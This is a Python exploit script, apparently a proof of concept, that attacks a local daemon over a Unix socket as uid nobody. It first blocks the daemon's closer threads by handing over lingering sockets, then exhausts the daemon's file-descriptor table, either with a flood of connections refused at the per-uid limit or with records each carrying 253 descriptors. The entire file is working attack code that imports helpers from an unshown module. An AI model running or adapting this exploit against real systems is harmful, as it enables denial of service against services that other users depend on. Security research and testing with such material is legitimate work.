#!/usr/bin/python3
"""uid nobody: block its 4 closer threads with lingering sockets, then fill the daemon's
descriptor table with connections refused at the per-uid client limit (each refused
connection is closed on nobody's closer queue, behind the blocked closes).

usage: attack_refused.py SOCK PORT MODE [N] [HOLD_S]
  MODE refused: N connect()+close() beyond the 1024 kept connections
  MODE fat:     one record of 253 fds on each of N kept connections (no refused flood)
"""
import sys, os, socket, time, struct
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common import *

path, port, mode = sys.argv[1], int(sys.argv[2]), sys.argv[3]
N = int(sys.argv[4]) if len(sys.argv) > 4 else 20000
HOLD = float(sys.argv[5]) if len(sys.argv) > 5 else 30
import faulthandler; faulthandler.dump_traceback_later(25, exit=False)
print("uid", os.getuid(), 'mode', mode, 'N', N, flush=True)

lst = socket.socket(); lst.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
lst.bind(('127.0.0.1', port)); lst.listen(64)
keep = []
# 1. the blocking closes: 6 lingering sockets (> PER_UID_THREADS), each the daemon's last reference
ctl = dconnect(path)
for i in range(int(os.environ.get("NLINGER", "6"))):
    s, peer, n = lingering(lst)
    keep.append(peer)
    send_fds(ctl, rec(OP_QUERY_GID, seq=100 + i), [s.fileno()])
    s.close()  # our copy gone: the daemon's close is the last, and blocks
    print('linger', i, 'queued', n, recv_reply(ctl)[0], flush=True)
keep.append(ctl)
time.sleep(0.5)
t0 = time.time()
conns = []
if mode == 'refused':
    # 2. the per-uid limit's worth of kept connections
    for i in range(1100):
        try:
            conns.append(dconnect(path))
        except OSError as e:
            print('connect', i, e, flush=True); break
    print('kept', len(conns), flush=True)
    # 3. each further one is refused and queued behind the blocked closes
    ok = fail = 0
    tend = time.time() + 20
    while ok < N and time.time() < tend:
        try:
            c = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET); c.setblocking(False)
            c.connect(path); c.close(); ok += 1
        except OSError as e:
            c.close(); fail += 1; time.sleep(0.002)
    print('flood: connected', ok, 'backlog-full', fail, flush=True)
    print('refused-flood connects', ok, 'in %.1fs' % (time.time() - t0), flush=True)
elif mode == 'fat':
    dn = os.open('/dev/null', os.O_RDONLY)
    for i in range(N):
        try:
            c = dconnect(path)
        except OSError as e:
            print('connect', i, e, flush=True); break
        conns.append(c)
    time.sleep(0.3)  # every task idle in recv (past its read_pause check)
    sent = 0
    for c in conns:
        try:
            send_fds(c, rec(OP_QUERY_GID, seq=7), [dn] * 253); sent += 1
        except OSError as e:
            print('send', e, flush=True); break
    print('fat records sent', sent, 'in %.1fs' % (time.time() - t0), flush=True)
print('holding %ss' % HOLD, flush=True)
time.sleep(HOLD)
print('done', flush=True)
